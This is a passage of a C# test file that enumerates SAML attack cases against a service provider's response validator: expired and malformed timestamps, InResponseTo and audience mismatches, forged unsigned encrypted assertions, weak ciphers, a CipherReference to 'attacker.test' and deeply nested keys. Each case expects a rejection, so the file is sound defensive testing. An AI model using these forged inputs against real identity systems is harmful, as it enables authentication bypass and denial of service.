            RemoveAttribute(d, "SubjectConfirmationData", "NotOnOrAfter");
            RemoveAttribute(d, "Conditions", "NotOnOrAfter");
        }));
        foreach (var value in new[] { "2100-01-01T00:00:00", "2100-01-01T00:00:00+14:00", "2100-13-45T00:00:00Z", "99999-01-01T00:00:00Z", "2024-01-01T00:00:00.123456789012Z", string.Empty, " 2100-01-01T00:00:00Z" })
        {
            yield return Case($"47 malformed NotOnOrAfter ('{value}')", SamlFailureReason.TimeFormat, c => c.Signed(d =>
                SetAttribute(d, "SubjectConfirmationData", "NotOnOrAfter", value)));
        }

        foreach (var (minutes, expected) in new[] { (-365 * 24 * 60, SamlFailureReason.Expired), (60, SamlFailureReason.NotYetValid) })
        {
            yield return Case($"47 IssueInstant outside the freshness window ({minutes} min)", expected, c => c.Signed(d =>
                TestIdp.Assertion(d).SetAttribute("IssueInstant", TestIdp.Time(TestIdp.Now.AddMinutes(minutes)))));
        }

        yield return Case("48 unknown condition", SamlFailureReason.ConditionUnknown, c => c.Signed(d => TestIdp.First(d, "Conditions").AppendChild(
            Element(d, """<saml:Condition xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:x="urn:x" xsi:type="x:Custom"/>"""))));
        yield return Case("49a other InResponseTo", SamlFailureReason.InResponseTo, c => c.Signed(d =>
        {
            d.DocumentElement!.SetAttribute("InResponseTo", "_other");
            SetAttribute(d, "SubjectConfirmationData", "InResponseTo", "_other");
        }));
        yield return Case("49b missing InResponseTo while a request is pending", SamlFailureReason.InResponseTo, c => c.Signed(RemoveInResponseTo));

        // The Response (unsigned) carries the request ID, the signed assertion something else or nothing.
        foreach (var signedValue in new[] { null, "_other" })
        {
            yield return Case($"49e InResponseTo only on the unsigned Response ({signedValue ?? "absent"})", SamlFailureReason.InResponseTo, c => c.Signed(d =>
            {
                if (signedValue is null)
                {
                    RemoveAttribute(d, "SubjectConfirmationData", "InResponseTo");
                }
                else
                {
                    SetAttribute(d, "SubjectConfirmationData", "InResponseTo", signedValue);
                }
            }));
        }

        yield return Case("50 unsolicited while IdP-initiated is off", SamlFailureReason.Unsolicited, c => c.Signed(RemoveInResponseTo), SamlCaseSetup.Unsolicited);
        yield return Case("50 IdP-initiated allowed but InResponseTo present", SamlFailureReason.InResponseTo, c => c.SignedResponse(), SamlCaseSetup.UnsolicitedAllowed);

        // Audience https://signin.aws.amazon.com/saml, Recipient our ACS: only the audience rule decides.
        yield return Case("52 STS assertion posted to the ACS", SamlFailureReason.Audience, c => c.Signed(d => TestIdp.First(d, "Audience").InnerText = "https://signin.aws.amazon.com/saml"));
    }

    private static IEnumerable<SamlAttackCase> GroupE()
    {
        // Anyone holding the SP's public certificate can do this.
        yield return Case("53 encrypted unsigned evil assertion", SamlFailureReason.EncUnsigned, c =>
        {
            var d = c.Response(nameId: XswMutator.EvilNameId);
            TestIdp.EncryptAssertion(d, TestIdp.Sp);
            return d;
        });
        yield return Case("53 tampered signature inside an encrypted assertion", SamlFailureReason.SigInvalid, c =>
        {
            var d = c.SignedResponse();
            XswMutator.MakeEvil(TestIdp.Assertion(d));
            TestIdp.EncryptAssertion(d, TestIdp.Sp);
            return d;
        });
        foreach (var (content, keyTransport) in new[]
        {
            ("http://www.w3.org/2009/xmlenc11#aes256-gcm", "http://www.w3.org/2001/04/xmlenc#rsa-1_5"),
            ("http://www.w3.org/2001/04/xmlenc#aes128-cbc", "http://www.w3.org/2001/04/xmlenc#rsa-oaep-mgf1p"),
        })
        {
            yield return Case($"54 weak key transport or CBC content ({content[(content.IndexOf('#', StringComparison.Ordinal) + 1)..]}, {keyTransport[(keyTransport.IndexOf('#', StringComparison.Ordinal) + 1)..]})", SamlFailureReason.EncAlg, c =>
            {
                var d = c.SignedResponse();
                TestIdp.EncryptAssertion(d, TestIdp.Sp, content, keyTransport);
                return d;
            });
        }

        foreach (var corrupt in new[] { "ciphertext", "key", "other-recipient" })
        {
            yield return Case($"54 {corrupt} corrupted", SamlFailureReason.EncDecrypt, c => Corrupted(c, corrupt));
        }

        yield return Case("55 CipherReference", SamlFailureReason.EncAlg, c =>
        {
            var d = c.SignedResponse();
            TestIdp.EncryptAssertion(d, TestIdp.Sp);
            var cipherData = d.GetElementsByTagName("CipherData", "http://www.w3.org/2001/04/xmlenc#").Cast<XmlElement>().Last();
            cipherData.RemoveAll();
            cipherData.AppendChild(d.ImportNode(
                TestIdp.Load("""<xenc:CipherReference xmlns:xenc="http://www.w3.org/2001/04/xmlenc#" URI="http://attacker.test/c"/>""").DocumentElement!, true));
            return d;
        });
        yield return Case("55 RetrievalMethod in KeyInfo", SamlFailureReason.EncAlg, c =>
        {
            var d = c.SignedResponse();
            TestIdp.EncryptAssertion(d, TestIdp.Sp);
            TestIdp.First(d, "KeyInfo", SamlNs.Dsig).AppendChild(Element(d, """<ds:RetrievalMethod URI="#self" Type="http://www.w3.org/2001/04/xmlenc#EncryptedKey"/>"""));
            return d;
        });
        yield return Raw("55 EncryptedKey nested a thousand deep", SamlFailureReason.XmlMalformed, c =>
        {
            var d = c.SignedResponse();
            TestIdp.EncryptAssertion(d, TestIdp.Sp);
            var open = string.Concat(Enumerable.Repeat("<xenc:EncryptedKey xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\"><ds:KeyInfo xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\">", 1000));
            var close = string.Concat(Enumerable.Repeat("</ds:KeyInfo></xenc:EncryptedKey>", 1000));
            return d.OuterXml.Replace("</ds:KeyInfo><xenc:CipherData>", open + close + "</ds:KeyInfo><xenc:CipherData>", StringComparison.Ordinal);
        });
        yield return Case("56a encrypted plus plain assertion", SamlFailureReason.AssertionCount, c =>
        {
            var d = c.SignedResponse();
            var other = c.Signed(s => TestIdp.Assertion(s).SetAttribute("ID", "_a2"));
            TestIdp.EncryptAssertion(d, TestIdp.Sp);
            d.DocumentElement!.AppendChild(d.ImportNode(TestIdp.Assertion(other), true));
            return d;
        });
        yield return Case("56b plaintext holds two assertions", SamlFailureReason.AssertionCount, c =>
        {
            var d = c.SignedResponse();
            var assertion = TestIdp.Assertion(d).OuterXml;
            TestIdp.EncryptAssertion(d, TestIdp.Sp, plaintextOverride: assertion + assertion.Replace("ID=\"_a1\"", "ID=\"_a2\"", StringComparison.Ordinal));
            return d;
        });
        yield return Case("56c two encrypted assertions", SamlFailureReason.AssertionCount, c =>
        {
            var d = c.SignedResponse();
            TestIdp.EncryptAssertion(d, TestIdp.Sp);
            d.DocumentElement!.AppendChild(TestIdp.First(d, "EncryptedAssertion").CloneNode(true));
            return d;
        });
        yield return Case("57 expired encrypted assertion", SamlFailureReason.Expired, c =>
        {
            var d = c.Signed(s => Expire(s, TestIdp.Now.AddMinutes(-10)));
            TestIdp.EncryptAssertion(d, TestIdp.Sp);
            return d;
        });
        yield return Case("57 encrypted assertion for another audience", SamlFailureReason.Audience, c =>
        {
            var d = c.Signed(s => TestIdp.First(s, "Audience").InnerText = "https://other-sp.test/saml");
            TestIdp.EncryptAssertion(d, TestIdp.Sp);
            return d;
        });
    }

    /// <summary>Case 54: every decryption failure must read the same (no padding/MAC oracle).</summary>
    internal static XmlDocument Corrupted(SamlCaseContext c, string corrupt)
    {
        var d = c.SignedResponse();
        TestIdp.EncryptAssertion(d, corrupt == "other-recipient" ? TestIdp.Evil : TestIdp.Sp);
        if (corrupt != "other-recipient")
        {
            var values = d.GetElementsByTagName("CipherValue", "http://www.w3.org/2001/04/xmlenc#").Cast<XmlElement>().ToList();
            var target = corrupt == "key" ? values[0] : values[1];
            var bytes = Convert.FromBase64String(target.InnerText);
            bytes[^20] ^= 0x55;
            target.InnerText = Convert.ToBase64String(bytes);
        }

        return d;
    }

    private static XmlDocument SignedWith(SamlCaseContext c, SignOptions options)
    {
        var d = c.Response();
        TestIdp.SignAssertion(d, TestIdp.Idp, options);
        return d;
    }

    /// <summary>Every NotOnOrAfter at <paramref name="notOnOrAfter"/>, NotBefore ten minutes before it.</summary>
    private static void Expire(XmlDocument d, DateTimeOffset notOnOrAfter)
    {
        SetAttribute(d, "Conditions", "NotBefore", TestIdp.Time(notOnOrAfter.AddMinutes(-10)));
        SetAttribute(d, "Conditions", "NotOnOrAfter", TestIdp.Time(notOnOrAfter));
        SetAttribute(d, "SubjectConfirmationData", "NotOnOrAfter", TestIdp.Time(notOnOrAfter));
    }
}

/// <summary>DOM edits used by the attack table and the validator tests.</summary>
internal static class SamlDom
{
    public static void SetAttribute(XmlDocument document, string localName, string attribute, string value, string ns = SamlNs.Assertion) =>
        TestIdp.First(document, localName, ns).SetAttribute(attribute, value);

    public static void RemoveAttribute(XmlDocument document, string localName, string attribute, string ns = SamlNs.Assertion) =>
        TestIdp.First(document, localName, ns).RemoveAttribute(attribute);

    public static void Remove(XmlNode node) => node.ParentNode!.RemoveChild(node);

    public static void RemoveInResponseTo(XmlDocument document)
    {
        document.DocumentElement!.RemoveAttribute("InResponseTo");
        RemoveAttribute(document, "SubjectConfirmationData", "InResponseTo");
    }

    public static XmlElement AssertionSignature(XmlDocument document) =>
        TestIdp.Assertion(document).ChildNodes.OfType<XmlElement>().Single(e => e.LocalName == "Signature");

    public static XmlElement Element(XmlDocument document, string xml)
    {
        var wrapper = TestIdp.Load($"""<w xmlns:saml="{SamlNs.Assertion}" xmlns:samlp="{SamlNs.Protocol}" xmlns:ds="{SamlNs.Dsig}">{xml}</w>""");
        return (XmlElement)document.ImportNode(wrapper.DocumentElement!.FirstChild!, true);
    }
}
